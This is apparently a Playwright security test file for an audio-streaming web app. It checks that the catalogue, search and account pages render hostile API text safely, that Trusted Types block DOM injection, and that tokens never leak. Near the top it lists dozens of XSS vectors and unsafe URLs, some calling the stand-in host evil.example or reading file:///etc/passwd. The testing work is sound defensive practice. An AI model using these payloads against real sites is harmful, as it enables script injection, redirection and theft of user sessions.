import type { BrowserContextOptions, Page } from '@playwright/test';
import { expect, test as base } from '../fixtures.ts';
import { LOCALE } from '../support/language.ts';
import { Listener } from '../support/listener.ts';

/** Code that a page would run if it treated text as markup or code. The tests define `pwned`. */
const CODE = ['pwned()', 'top.pwned()', "fetch('https://evil.example/')", "location='https://evil.example/'"];

/** Markup that runs code. `CODE` is replaced by the code. */
const VECTORS = [
  '<script>CODE</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror="CODE">',
  '<img src="https://evil.example/x.png" onload="CODE">',
  '<svg onload="CODE">',
  '<svg><script>CODE</script></svg>',
  '<svg><animate onbegin="CODE" attributeName=x dur=1s>',
  '<math><mtext><img src=x onerror="CODE"></mtext></math>',
  '<iframe srcdoc="<script>parent.CODE</script>"></iframe>',
  '<iframe src="javascript:CODE"></iframe>',
  '<object data="javascript:CODE"></object>',
  '<embed src="data:text/html,<script>CODE</script>">',
  '<details open ontoggle="CODE">x</details>',
  '<video><source onerror="CODE"></video>',
  '<audio src=x onerror="CODE"></audio>',
  '<input autofocus onfocus="CODE">',
  '<body onload="CODE">',
  '<a href="javascript:CODE">x</a>',
  '<form action="javascript:CODE"><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<template><script>CODE</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=CODE>"></noscript>',
  '<marquee onstart="CODE">x</marquee>',
  '"><script>CODE</script>',
  "'-CODE-'",
  '{{constructor.constructor("CODE")()}}',
  '${CODE}',
  '</title><script>CODE</script>',
  '</script><script>CODE</script>',
  ']]><script>CODE</script>',
  '<!--><script>CODE</script>-->',
  '\u202E<script>CODE</script>',
  'javascript:CODE',
  '%3Cscript%3ECODE%3C/script%3E',
  '&lt;script&gt;CODE&lt;/script&gt;',
  '<scr<script>ipt>CODE</scr</script>ipt>',
  '<a ping="https://evil.example/" href="https://evil.example/" target=_self>x</a>',
  '<x contenteditable onblur="CODE" tabindex=1 autofocus>x</x>',
  '\u0000<script>CODE</script>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<xmp><p title="</xmp><svg/onload=CODE>"></xmp>',
  '<isindex type=image src=1 onerror="CODE">',
  '<portal src="https://evil.example/"></portal>',
  '<button popovertarget=x onbeforetoggle="CODE">x</button>',
  '<select><option><style></option></select><img src=x onerror="CODE"></style>',
  '<frameset onload="CODE">',
  '<link rel=prerender href="https://evil.example/">',
];

/** Two hundred texts that do harm if they are treated as markup or code. */
const PAYLOADS: readonly string[] = VECTORS.flatMap((vector) =>
  CODE.map((code) => vector.replaceAll('CODE', code)),
);

/** Addresses that must not be opened or loaded. */
const UNSAFE_ADDRESSES: readonly string[] = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  ' javascript:pwned()',
  'java\nscript:pwned()',
  'data:text/html,<script>parent.pwned()</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>',
  'vbscript:pwned()',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  'filesystem:https://evil.example/x',
];

type StorageState = Exclude<BrowserContextOptions['storageState'], string | undefined>;

type Harm = {
  /** Code that ran, requests to other origins, and pages of other origins that were opened. */
  readonly done: string[];
};

/** Every test starts with a signed-in listener and fails if a payload does any harm. */
const test = base.extend<{ readonly harm: Harm }, { readonly signedIn: StorageState }>({
  signedIn: [
    async ({ browser, provider }, use) => {
      const context = await browser.newContext({ baseURL: provider.origin, locale: LOCALE });
      await new Listener(await context.newPage()).signsIn('annual');
      const state = await context.storageState();
      await context.close();
      await use({
        ...state,
        origins: state.origins.map((each) => ({
          ...each,
          localStorage: each.localStorage.filter(({ name }) => !name.startsWith('response:')),
        })),
      });
    },
    { scope: 'worker' },
  ],
  storageState: async ({ signedIn }, use) => use(signedIn),
  serviceWorkers: 'block',
  harm: [
    async ({ page, context, provider, allowConsole }, use) => {
      // The policy refuses images of other origins, and the browser reports each on the console.
      allowConsole(
        /Content Security Policy|img-src|media-src|evil\.example|Service Worker registration blocked/,
      );
      allowConsole(/ERR_INVALID_URL|status of 40[034]|cannot be read|The PDF has no address/);
      const harm: Harm = { done: [] };
      await page.exposeFunction('pwned', () => {
        harm.done.push('code ran');
      });
      page.on('dialog', (dialog) => {
        harm.done.push('a dialog');
        void dialog.dismiss();
      });
      page.on('framenavigated', (frame) => {
        const url = frame.url();
        if (!url.startsWith(provider.origin) && url !== 'about:blank') harm.done.push(`opened ${url}`);
      });
      context.on('page', (opened) => harm.done.push(`a window ${opened.url()}`));
      await context.route(
        (url) => url.hostname === 'evil.example',
        async (route) => {
          harm.done.push(`requested ${route.request().url()}`);
          await route.abort();
        },
      );
      await use(harm);
      expect(harm.done).toEqual([]);
    },
    { auto: true },
  ],
});

let next = 0;
/** The next payload, so that all of them are used in turn. */
const payload = (): string => {
  next += 1;
  return PAYLOADS[next % PAYLOADS.length] ?? '';
};
const address = (): string => UNSAFE_ADDRESSES[next % UNSAFE_ADDRESSES.length] ?? '';

/** An item whose texts are all payloads, and whose addresses are all unsafe. */
const item = (id: string): object => ({
  id,
  content_id: null,
  title: payload(),
  description: payload(),
  img_url: address(),
  pdf_url: address(),
  url: address(),
  content_type: 2,
  run_time: 600,
  author_info: [{ id: `author-${id}`, name: payload() }],
  category_info: [{ id: 'fiction', name: payload() }],
  topic_info: [{ id: 'the-sea', name: payload() }],
  chapter_info: [1, 2, 3].map((index) => ({
    chapter_title: payload(),
    chapter_url: address(),
    chapter_index: index,
    chapter_run_time: 60,
  })),
  tracks: [],
  has_listen_free_content: true,
  is_favorite: false,
  is_purchased: false,
});

const items = (count: number): readonly object[] =>
  Array.from({ length: count }, (_, at) => item(`hostile-${at}`));
const named = (count: number): readonly object[] =>
  Array.from({ length: count }, (_, at) => ({ id: `named-${at}`, name: payload(), img_url: address() }));
const list = (results: readonly object[]): object => ({ results, next_page_key: null });

/** Expects that no link, image or form has an unsafe address, and that no payload became an element. */
async function expectHarmlessLinks(page: Page): Promise<void> {
  const links = await page.evaluate(() =>
    [...document.querySelectorAll('a[href], [src], [action], [formaction], [srcdoc]')].map((each) =>
      each instanceof HTMLAnchorElement
        ? each.href
        : (each.getAttribute('src') ?? each.getAttribute('action') ?? each.getAttribute('srcdoc') ?? ''),
    ),
  );
  const harmful = links.filter((link) => {
    if (link === '' || link.startsWith('data:image/')) return false;
    const { protocol, hostname } = new URL(link, page.url());
    return !/^https?:$/.test(protocol) || hostname === 'evil.example';
  });
  expect(harmful).toEqual([]);
  const planted = await page.evaluate(
    () =>
      document.querySelectorAll('main :is(script, iframe, object, embed, base, meta, style, form)').length,
  );
  expect(planted).toBe(0);
}

test('two hundred payloads in the texts of the catalogue, of a title, a search and an account are shown as text (APP-38)', async ({
  page,
  provider,
  harm,
}) => {
  test.slow();
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(200);
  await provider.faults(
    {
      match: { path: '/api/v2/browse' },
      body: {
        new_releases: items(40),
        trending: items(40),
        curated_collections: items(10),
        quick_listens: items(10),
        discounts: items(5),
        categories: named(20),
        authors: named(20),
      },
    },
    { match: { path: '/api/v2/user/content' }, body: list(items(15)) },
    { match: { path: '/api/v2/for-you' }, body: { recommended: items(15) } },
    { match: { path: '/api/v2/topics' }, body: list(named(10)) },
    { match: { path: '/api/v2/user$' }, body: { id: 'x', full_name: payload(), email: payload() } },
  );
  await page.goto('/');
  const releases = page.getByRole('region', { name: 'New Releases' });
  await expect(releases.getByRole('article').first()).toBeVisible();
  await expect(page.getByRole('article')).not.toHaveCount(0);
  // A row renders all of its slides when it is used.
  await expect(async () => {
    for (const next of await page.getByRole('button', { name: 'Next slides' }).all()) await next.focus();
    expect(await page.getByRole('article').count()).toBeGreaterThanOrEqual(100);
  }).toPass();
  await expectHarmlessLinks(page);

  await provider.clearFaults();
  const title = '"><img src=x onerror="pwned()">';
  await provider.faults(
    {
      match: { path: '/api/v2/content/hostile' },
      body: {
        ...item('hostile'),
        content_type: 1,
        title,
        chapter_info: [],
        url: '/media/audio/quiet-mind.mp3',
      },
    },
    { match: { path: '/api/v2/authors/' }, body: { ...named(1)[0], content: items(20) } },
    { match: { path: '/api/v2/search' }, body: list(items(20)) },
    { match: { path: '/api/v2/favorites/authors' }, body: list(named(10)) },
    { match: { path: '/api/v2/user$' }, body: { id: 'x', full_name: payload(), email: payload() } },
  );
  for (const path of [
    '/authors/author',
    '/favorite-authors',
    '/account',
    `/search-results?q=${encodeURIComponent(PAYLOADS[0] ?? '')}`,
    '/audios/hostile',
  ]) {
    await page.goto(path);
    await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.getByRole('main')).toContainText(/pwned|evil\.example/);
    await expectHarmlessLinks(page);
  }
  await page
    .getByRole('main')
    .getByRole('button', { name: `Play ${title}`, exact: true })
    .click();
  await expect(new Listener(page).player).toContainText(title);
  await expect(page).toHaveTitle(/onerror/);
  await expectHarmlessLinks(page);
  expect(harm.done).toEqual([]);
});

test('Trusted Types stop every way of turning text into code (APP-37)', async ({ page, allowConsole }) => {
  allowConsole(/Trusted(?:HTML|Script|ScriptURL|Type)|trusted-types/);
  await page.goto('/');
  await expect(page.getByRole('article').first()).toBeVisible();
  const done = await page.evaluate(() => {
    const markup = '<img src=x onerror="pwned()">';
    const attempts: Readonly<Record<string, () => unknown>> = {
      innerHTML: () => (document.body.innerHTML = markup),
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', markup),
      srcdoc: () => (document.createElement('iframe').srcdoc = markup),
      write: () => document.write(markup),
      fragment: () => document.createRange().createContextualFragment(markup),
      script: () => (document.createElement('script').text = 'pwned()'),
      address: () => (document.createElement('script').src = 'https://evil.example/x.js'),
      worker: () => new Worker('data:text/javascript,1'),
      handler: () => document.body.setAttribute('onclick', 'pwned()'),
    };
    return Object.entries(attempts).flatMap(([name, attempt]) => {
      try {
        attempt();
        return [name];
      } catch {
        return [];
      }
    });
  });
  expect(done).toEqual([]);
  await expect(page.evaluate(`trustedTypes.createPolicy('another', {})`)).rejects.toThrow(/another/);
});

test('tokens are sent only to the API and the sign-in service, and never in an address (SES-79)', async ({
  page,
  provider,
  allowConsole,
}) => {
  allowConsole(/status of 401/);
  // This test ends its session, so it uses one of its own.
  await page.goto('/login');
  await page.evaluate(() => localStorage.clear());
  const seen: { readonly url: string; readonly headers: string; readonly body: string }[] = [];
  page.on('request', (request) => {
    seen.push({
      url: request.url(),
      headers: JSON.stringify(request.headers()),
      body: request.postData() ?? '',
    });
  });
  const logged: string[] = [];
  page.on('console', (message) => logged.push(message.text()));
  await page.goto('/login');
  await new Listener(page).signsIn('trial');
  await page.goto('/audios/quiet-mind');
  await page.getByRole('main').getByRole('button', { name: 'Play Quiet Mind', exact: true }).click();
  await expect(page.getByRole('region', { name: 'Player' })).toBeVisible();
  const tokens = new Set<string>();
  const collectTokens = async () => {
    const stored = await page.evaluate(() =>
      Object.keys(localStorage)
        .filter((key) => key.endsWith('Token'))
        .map((key) => localStorage.getItem(key) ?? ''),
    );
    for (const token of stored) tokens.add(token);
    return tokens.size;
  };
  await collectTokens();
  expect(tokens.size).toBeGreaterThanOrEqual(2);
  // A refused token is renewed, and the sign-out revokes the last one.
  await provider.faults({ match: { path: '/api/v2/trending' }, status: 401, times: 1 });
  await page.goto('/trending');
  await expect(page.getByRole('main').getByRole('article').first()).toBeVisible();
  const before = tokens.size;
  await expect.poll(collectTokens).toBeGreaterThan(before);
  await page.getByRole('banner').getByRole('button', { name: 'Sign Out' }).click();
  await expect(page).toHaveURL('/login');

  const hasToken = (text: string): boolean => [...tokens].some((token) => text.includes(token));
  expect(seen.filter(({ url }) => hasToken(url))).toEqual([]);
  expect(logged.filter(hasToken)).toEqual([]);
  const receivers = seen
    .filter(({ headers, body }) => hasToken(headers) || hasToken(body))
    .map(({ url }) => url);
  expect(receivers.length).toBeGreaterThan(0);
  const own = [`${provider.origin}/api/v2/`, `${provider.origin}/pool`];
  expect(receivers.filter((url) => !own.some((start) => url.startsWith(start)))).toEqual([]);
});
